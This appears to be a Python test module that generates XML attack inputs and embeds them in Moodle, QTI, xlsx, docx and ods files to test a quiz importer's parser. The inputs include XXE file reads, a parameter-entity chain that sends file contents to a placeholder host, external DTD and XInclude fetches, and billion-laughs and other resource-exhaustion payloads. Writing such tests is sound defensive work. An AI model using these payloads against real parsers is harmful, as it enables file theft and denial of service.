"""What XML can be made to do, each attack put into every format that carries XML.

A carrier is a format's bytes around one of its parts, the part with an attack in it. `web` is an
http:// address and `file` a path that no reader may ask for.
"""

import io
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace

from tests.questions.formats import built, built_docx
from tests.questions.formats.attacks import MOODLE, QTI, SHEET, deep, manifest, zipped


@dataclass(frozen=True)
class XmlAttack:
    """What stands before the root (`{root}` is its name), in its tag and inside it; what becomes of the bytes."""

    before: str = ""
    attribute: str = ""
    inside: str = ""
    coded: Callable[[str], bytes] = str.encode


def _entities(levels: int, wide: int) -> str:
    return '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * wide}">' for n in range(1, levels))


def _declared(encoding: str) -> Callable[[str], bytes]:
    return lambda text: f'<?xml version="1.0" encoding="{encoding}"?>{text}'.encode()


def _utf7(text: str) -> bytes:
    return b'<?xml version="1.0" encoding="UTF-7"?>' + text.replace("<!", "+ADwAIQ-").encode()


def _ebcdic(text: str) -> bytes:
    return f'<?xml version="1.0" encoding="cp037"?>{text}'.encode("cp037", "replace")


def xml_attacks(web: str, file: str) -> dict[str, XmlAttack]:
    def subset(inside: str, use: str = "") -> XmlAttack:
        return XmlAttack(f"<!DOCTYPE {{root}} [{inside}]>", inside=use)

    path = f"file://{file}"
    outer = subset(f'<!ENTITY x SYSTEM "{path}">', "&x;")
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{}" parse="{}"/>'
    return {
        "an entity": subset('<!ENTITY x "y">', "&x;"),
        "an entity in an attribute": replace(subset('<!ENTITY x "y">'), attribute=' a="&x;"'),
        "a file as an entity": outer,
        "an address as an entity": subset(f'<!ENTITY x SYSTEM "{web}/x">', "&x;"),
        "a public entity": subset(f'<!ENTITY x PUBLIC "-//x" "{web}/x">', "&x;"),
        "a parameter entity": subset(f'<!ENTITY % x SYSTEM "{web}/x.dtd"> %x;'),
        "a parameter entity of a file": subset(f'<!ENTITY % x SYSTEM "{path}"> %x;'),
        "a parameter entity that sends a file": subset(
            f'<!ENTITY % f SYSTEM "{path}"><!ENTITY % x "<!ENTITY s SYSTEM \'{web}/?%f;\'>"> %x;', "&s;"),
        "an unparsed entity": subset(f'<!NOTATION n SYSTEM "{web}/n"><!ENTITY x SYSTEM "{path}" NDATA n>'),
        "an external DTD": XmlAttack(f'<!DOCTYPE {{root}} SYSTEM "{web}/x.dtd">'),
        "a public DTD": XmlAttack(f'<!DOCTYPE {{root}} PUBLIC "-//x" "{web}/x.dtd">'),
        "a DTD of a file": XmlAttack(f'<!DOCTYPE {{root}} SYSTEM "{path}">', inside="&x;"),
        "a thousand million laughs": subset(_entities(10, 10), "&a9;"),
        "laughs in an attribute": replace(subset(_entities(10, 10)), attribute=' a="&a9;"'),
        "quadratic blow-up": subset(f'<!ENTITY a "{"x" * 50_000}">', "&a;" * 20_000),
        "entities in a circle": subset('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
        "an attribute by default": subset(f'<!ATTLIST {{root}} href CDATA "{web}/x">'),
        "an element declared without end": subset("<!ELEMENT x " + "(" * 20_000 + "x" + ")" * 20_000 + ">"),
        "an empty DTD": XmlAttack("<!DOCTYPE {root}>"),
        "a DTD after much that is none": XmlAttack("<!--" + "x" * 300_000 + "-->" + outer.before, inside="&x;"),
        "XInclude of a file": XmlAttack(inside=include.format(path, "text")),
        "XInclude of an address": XmlAttack(inside=include.format(f"{web}/x.xml", "xml")),
        "a stylesheet": XmlAttack(f'<?xml-stylesheet type="text/xsl" href="{web}/x.xsl"?>'),
        "an instruction": XmlAttack(f'<?php readfile("{file}"); ?>'),
        "a schema elsewhere": XmlAttack(attribute=' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                                                 f'xsi:schemaLocation="http://x {web}/x.xsd"'),
        "UTF-16": replace(outer, coded=lambda text: text.encode("utf-16")),
        "UTF-16 without a mark": replace(outer, coded=lambda text: text.encode("utf-16-be")),
        "UTF-32": replace(outer, coded=lambda text: text.encode("utf-32")),
        "UTF-7": replace(outer, coded=_utf7),
        "EBCDIC": replace(outer, coded=_ebcdic),
        "an encoding that nobody knows": XmlAttack(coded=_declared("x-none")),
        "an encoding that lies": XmlAttack(coded=_declared("UTF-16")),
        "a huge attribute": XmlAttack(attribute=f' a="{"y" * 11_000_000}"'),
        "10,000 attributes": XmlAttack(attribute="".join(f' a{n}="1"' for n in range(10_000))),
        "10,000 names of spaces": XmlAttack(attribute="".join(f' xmlns:n{n}="u{n}"' for n in range(10_000))),
        "100,000 elements in each other": XmlAttack(inside=deep("x", 100_000)),
        "a huge name": XmlAttack(inside=f'<{"n" * 1_000_000}/>'),
        "a comment without end": XmlAttack(inside="<!--" + "-" * 100_000),
        "CDATA in CDATA": XmlAttack(inside="<![CDATA[" * 10_000),
    }


DOCUMENT = (f'<w:document {built_docx.NAMES}><w:body>' + "".join(
    built_docx.p(built_docx.run(text)) for text in ("Câu 1: Hỏi gì?", "A. a", "*B. b")) + "</w:body></w:document>")
STRINGS = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"></sst>'
STYLES = f"<w:styles {built_docx.NAMES}></w:styles>"
with zipfile.ZipFile(io.BytesIO(built.ods([built.HEADER, built.question(1)]))) as table:
    ODS = {name: table.read(name) for name in table.namelist()}


def spoilt(part: str, attack: XmlAttack) -> bytes:
    """The part with the attack: before its root, in its first tag, before its last."""
    part = part.removeprefix('<?xml version="1.0"?>')
    start, end = part.index(">"), part.rindex("</")
    root = part[1:start].split()[0]
    text = (attack.before.replace("{root}", root) + part[:start] + attack.attribute + part[start:end] + attack.inside
            + part[end:])
    return attack.coded(text)


def carriers() -> Iterator[tuple[str, Callable[[XmlAttack], bytes]]]:
    """Every format that carries XML, by its parts."""
    moodle, item = MOODLE.format(dtd="", stem="Hỏi gì?", more=""), QTI.format(dtd="", stem="Hỏi gì?")
    yield "moodle", lambda attack: spoilt(moodle, attack)
    yield "qti", lambda attack: spoilt(item, attack)
    yield "qti package, manifest", lambda attack: zipped({"imsmanifest.xml": spoilt(manifest("a.xml"), attack),
                                                         "a.xml": item})
    yield "qti package, item", lambda attack: zipped({"imsmanifest.xml": manifest("a.xml"),
                                                     "a.xml": spoilt(item, attack)})
    yield "xlsx, sheet", lambda attack: built.package(spoilt(SHEET, attack))
    yield "xlsx, texts", lambda attack: built.package(SHEET, {"xl/sharedStrings.xml": spoilt(STRINGS, attack)})
    yield "docx, document", lambda attack: built_docx.package(spoilt(DOCUMENT, attack))
    yield "docx, styles", lambda attack: built_docx.package(DOCUMENT, {"styles.xml": spoilt(STYLES, attack)})
    yield "ods, content", lambda attack: zipped(ODS | {"content.xml": spoilt(ODS["content.xml"].decode(), attack)})
